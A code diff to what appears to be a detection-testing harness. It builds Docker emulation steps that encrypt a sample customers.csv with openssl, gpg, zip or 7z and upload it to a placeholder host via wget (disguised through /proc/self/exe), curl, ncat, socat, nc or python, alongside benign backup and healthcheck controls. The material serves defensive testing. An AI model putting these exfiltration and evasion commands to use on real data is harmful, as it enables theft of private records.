@@ -52,11 +52,14 @@ function container(opts: { network?: boolean; mounts?: string; labels?: string }
   return step(`docker run -d $LABELS ${opts.labels ?? ''} --name "$MARK" ${net} ${HOSTBIN} ${opts.mounts ?? ''} "$IMAGE" sleep 120`);
 }
 
-/** The container's own command: `sh -c SCRIPT arg0 arg1 ...` (positional args carry host values). */
+/**
+ * The container's own command: busybox `/bin/sh -c SCRIPT arg0 arg1 ...` (positional args carry host
+ * values). The path matters: with the host's /usr mounted, a bare `sh` would be the host's dash.
+ */
 function entrypoint(script: string, opts: { network?: boolean; mounts?: string; args?: string; labels?: string } = {}): EmulationStep {
   const net = opts.network ? '--network "$NETWORK"' : '--network none';
   return step(
-    `docker run --rm $LABELS ${opts.labels ?? ''} --name "$MARK" ${net} ${HOSTBIN} ${opts.mounts ?? ''} "$IMAGE" sh -c ${shq(script)} ${opts.args ?? ''}`,
+    `docker run --rm $LABELS ${opts.labels ?? ''} --name "$MARK" ${net} ${HOSTBIN} ${opts.mounts ?? ''} "$IMAGE" /bin/sh -c ${shq(script)} ${opts.args ?? ''}`,
     'container',
     { allow_failure: true, timeout_s: 30 },
   );
@@ -199,9 +202,9 @@ const CIPHERS: Cipher[] = [
   { id: 'des3', cmd: '/usr/bin/openssl des3 -pbkdf2 -pass pass:x -in /mnt/data/customers.csv -out /tmp/c.bin', out: '/tmp/c.bin', text: 'openssl des3' },
   { id: 'camellia', cmd: '/usr/bin/openssl enc -e -camellia-256-cbc -pbkdf2 -pass pass:x -in /mnt/data/customers.csv -out /tmp/c.bin', out: '/tmp/c.bin', text: 'openssl enc -e -camellia-256-cbc' },
   { id: 'cms', cmd: '/usr/bin/openssl cms -encrypt -aes256 -binary -in /mnt/data/customers.csv -out /tmp/c.bin -outform DER /w/cert.pem', out: '/tmp/c.bin', text: 'openssl cms -encrypt to a certificate' },
-  { id: 'gpg-c', cmd: '/usr/bin/gpg --homedir /tmp/g --batch --pinentry-mode loopback --passphrase x -o /tmp/c.bin -c /mnt/data/customers.csv', out: '/tmp/c.bin', text: 'gpg -c' },
-  { id: 'gpg-symmetric', cmd: '/usr/bin/gpg --homedir /tmp/g --batch --pinentry-mode loopback --passphrase x --cipher-algo AES256 -o /tmp/c.bin --symmetric /mnt/data/customers.csv', out: '/tmp/c.bin', text: 'gpg --symmetric --cipher-algo AES256' },
-  { id: 'gpg-flag-group', cmd: '/usr/bin/gpg --homedir /tmp/g --batch --pinentry-mode loopback --passphrase x -o /tmp/c.bin -ac /mnt/data/customers.csv', out: '/tmp/c.bin', text: 'gpg -ac (armor and symmetric in one flag group)' },
+  { id: 'gpg-c', cmd: 'mkdir -p /tmp/g && /usr/bin/gpg --homedir /tmp/g --batch --pinentry-mode loopback --passphrase x -o /tmp/c.bin -c /mnt/data/customers.csv', out: '/tmp/c.bin', text: 'gpg -c' },
+  { id: 'gpg-symmetric', cmd: 'mkdir -p /tmp/g && /usr/bin/gpg --homedir /tmp/g --batch --pinentry-mode loopback --passphrase x --cipher-algo AES256 -o /tmp/c.bin --symmetric /mnt/data/customers.csv', out: '/tmp/c.bin', text: 'gpg --symmetric --cipher-algo AES256' },
+  { id: 'gpg-flag-group', cmd: 'mkdir -p /tmp/g && /usr/bin/gpg --homedir /tmp/g --batch --pinentry-mode loopback --passphrase x -o /tmp/c.bin -ac /mnt/data/customers.csv', out: '/tmp/c.bin', text: 'gpg -ac (armor and symmetric in one flag group)' },
   { id: 'zip-p', cmd: 'cd /tmp && /usr/bin/zip -q -P x c.zip /mnt/data/customers.csv', out: '/tmp/c.zip', text: 'zip -P' },
   { id: 'zip-password', cmd: 'cd /tmp && /usr/bin/zip -q --password x c.zip /mnt/data/customers.csv', out: '/tmp/c.zip', text: 'zip --password' },
   { id: '7z-p', cmd: '/usr/lib/p7zip/7z a -bd -pSecret -mhe=on /tmp/c.7z /mnt/data/customers.csv >/dev/null', out: '/tmp/c.7z', text: '7z a -p -mhe=on' },
@@ -220,7 +223,7 @@ const UPLOADS: Upload[] = [
   { id: 'bb-wget-selfexe', cmd: (f) => `(exec -a wget /proc/self/exe --post-file ${f} --no-check-certificate -q -O /dev/null "$0")`, text: 'busybox wget through /proc/self/exe' },
   { id: 'gnu-wget-put', cmd: (f) => `/usr/bin/wget -q --no-check-certificate --method=PUT --body-file=${f} -O /dev/null "$0"`, text: 'GNU wget --method=PUT --body-file' },
   { id: 'ncat-ssl', cmd: (f) => `/usr/bin/ncat --ssl --send-only "$1" "$2" < ${f}`, text: 'ncat --ssl --send-only' },
-  { id: 's-client', cmd: (f) => `/usr/bin/openssl s_client -quiet -connect "$1:$2" < ${f} >/dev/null 2>&1`, text: 'openssl s_client -quiet' },
+  { id: 'curl-urlencode', cmd: (f) => `/usr/bin/curl -sk --data-urlencode "f@${f}" "$0"`, text: 'curl --data-urlencode name@file' },
   { id: 'python-put', cmd: (f) => `/usr/bin/python3 -c "import urllib.request as u,ssl,sys; u.urlopen(u.Request(sys.argv[1], data=open(sys.argv[2],'rb').read(), method='PUT'), context=ssl._create_unverified_context())" "$0" ${f}`, text: 'python3 urllib Request(data=..., method=PUT)' },
   { id: 'socat-openssl', cmd: (f) => `/usr/bin/socat -u FILE:${f} OPENSSL:"$1":"$2",verify=0`, text: 'socat FILE: to OPENSSL:' },
   { id: 'bb-nc', cmd: (f) => `/bin/nc "$1" "$2" < ${f}`, text: 'busybox nc with the file on stdin' },
@@ -252,7 +255,7 @@ function exfiltration(): Variant[] {
       steps: [entrypoint('tar -cf /tmp/a.tar -C /mnt/data . && /usr/bin/openssl enc -aes-256-cbc -pbkdf2 -pass pass:b -in /tmp/a.tar -out /backup/a.tar.enc', { mounts: '-v "$WORK/data:/mnt/data:ro" -v "$WORK/backup:/backup"' })],
       setup: [...DATA_SETUP, step('mkdir -p "$WORK/backup"')] },
     { id: 'backup-gpg-local', description: 'Database dump encrypted with gpg --symmetric to a local backup directory (documented pg_dump | gpg -c pattern).',
-      steps: [entrypoint('/usr/bin/gpg --homedir /tmp/g --batch --pinentry-mode loopback --passphrase b -o /backup/dump.gpg --symmetric /mnt/data/customers.csv', { mounts: '-v "$WORK/data:/mnt/data:ro" -v "$WORK/backup:/backup"' })],
+      steps: [entrypoint('mkdir -p /tmp/g && /usr/bin/gpg --homedir /tmp/g --batch --pinentry-mode loopback --passphrase b -o /backup/dump.gpg --symmetric /mnt/data/customers.csv', { mounts: '-v "$WORK/data:/mnt/data:ro" -v "$WORK/backup:/backup"' })],
       setup: [...DATA_SETUP, step('mkdir -p "$WORK/backup"')] },
     { id: 'ci-publish-report', needs: ['https'] as Fixture[], description: 'CI job publishes an unencrypted test report with curl -T.',
       setup: DATA_SETUP, steps: [entrypoint('/usr/bin/curl -sk -T /mnt/data/customers.csv "$0"', { network: true, mounts: DATA, args: HTTPS_ARGS })] },
@@ -277,7 +280,7 @@ function exfiltration(): Variant[] {
     { id: '7z-archive-upload', needs: ['https'], description: 'Log archiver compresses with 7z (no password) and uploads over HTTPS.',
       setup: DATA_SETUP, steps: [entrypoint('/usr/lib/p7zip/7z a -bd /tmp/logs.7z /mnt/data >/dev/null && /usr/bin/curl -sk -T /tmp/logs.7z "$0"', { network: true, mounts: DATA, args: HTTPS_ARGS })] },
     { id: 'gpg-verify-download', needs: ['https'], description: 'Installer downloads a release and verifies it with gpg --verify (fails without a signature; the check is the point).',
-      steps: [entrypoint('/usr/bin/curl -sk -o /tmp/r "$0"; /usr/bin/gpg --homedir /tmp/g --batch --verify /tmp/r 2>/dev/null; true', { network: true, args: HTTPS_ARGS })] },
+      steps: [entrypoint('/usr/bin/curl -sk -o /tmp/r "$0"; mkdir -p /tmp/g; /usr/bin/gpg --homedir /tmp/g --batch --verify /tmp/r 2>/dev/null; true', { network: true, args: HTTPS_ARGS })] },
     { id: 'cert-expiry-probe', needs: ['https'], description: 'Monitoring probe: openssl rand for a nonce, then openssl s_client -connect to read the certificate expiry.',
       steps: [entrypoint('/usr/bin/openssl rand -hex 8 >/dev/null && echo | /usr/bin/openssl s_client -connect "$1:$2" -servername x 2>/dev/null | /usr/bin/openssl x509 -noout -enddate', { network: true, args: HTTPS_ARGS })] },
     { id: 'wget-healthcheck', needs: ['https'], description: 'Container healthcheck with busybox wget --spider, after an encrypted local backup.',
